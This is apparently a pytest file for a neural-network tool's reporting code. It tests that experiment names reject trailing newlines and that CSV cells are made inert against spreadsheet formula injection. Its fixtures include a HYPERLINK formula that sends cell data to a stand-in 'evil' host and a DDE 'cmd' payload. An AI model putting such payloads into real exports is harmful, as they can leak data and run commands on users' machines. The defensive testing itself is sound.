"""Names are matched whole (no trailing newline gets through), and CSV output cannot be
run as a spreadsheet formula."""

from __future__ import annotations

import csv
import io

import pytest
from click.testing import CliRunner

from nnchain.report.output import csv_cell, to_csv
from nnchain.report.table import Column, Comparison

FORMULAS = ['=HYPERLINK("http://evil/?"&A1,"x")', "+SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0",
            "@SUM(A1)", "\t=1+1", "\r=1+1"]


def test_a_trailing_newline_makes_no_experiment(tmp_path, monkeypatch):
    from nnchain.cli.main import main

    monkeypatch.chdir(tmp_path)
    (tmp_path / "t.yaml").write_text("data: {name: xor, n_samples: 32}\nmodel: {hidden: [2]}\n"
                                     "train: {epochs: 1}\n")
    result = CliRunner().invoke(main, ["train", "t.yaml", "--experiment", "evil\n"])
    assert result.exit_code == 2, result.output
    assert result.stderr.count("\n") == 1 and "--experiment" in result.stderr
    assert not (tmp_path / "nnchain-runs").exists()


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_cells_are_made_inert(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value, cell", [(-0.5, "-0.5"), (-3, "-3"), ("-0.5", "-0.5"),
                                         ("+1e-3", "+1e-3"), ("-12", "-12"), (1.25, "1.25"),
                                         ("relu", "relu"), ([16, 16], "[16, 16]"), (None, "")])
def test_numbers_and_plain_text_are_kept(value, cell):
    assert csv_cell(value) == cell


def test_a_comparison_with_hostile_values_writes_inert_csv():
    columns = [Column("sweep", False), Column("=cmd()", False), Column("val_cost", True),
               Column("reason", False)]
    records = [{"sweep": f, "=cmd()": "-x", "val_cost": -1.5, "reason": f} for f in FORMULAS]
    comparison = Comparison(columns=columns, records=records, sweeps=[], total=len(records),
                            matched=len(records))
    rows = list(csv.reader(io.StringIO(to_csv(comparison), newline="")))
    assert rows[0] == ["sweep", "'=cmd()", "val_cost", "reason"]
    for row, text in zip(rows[1:], FORMULAS, strict=True):
        assert row == ["'" + text, "'-x", "-1.5", "'" + text]
        assert float(row[2]) == -1.5
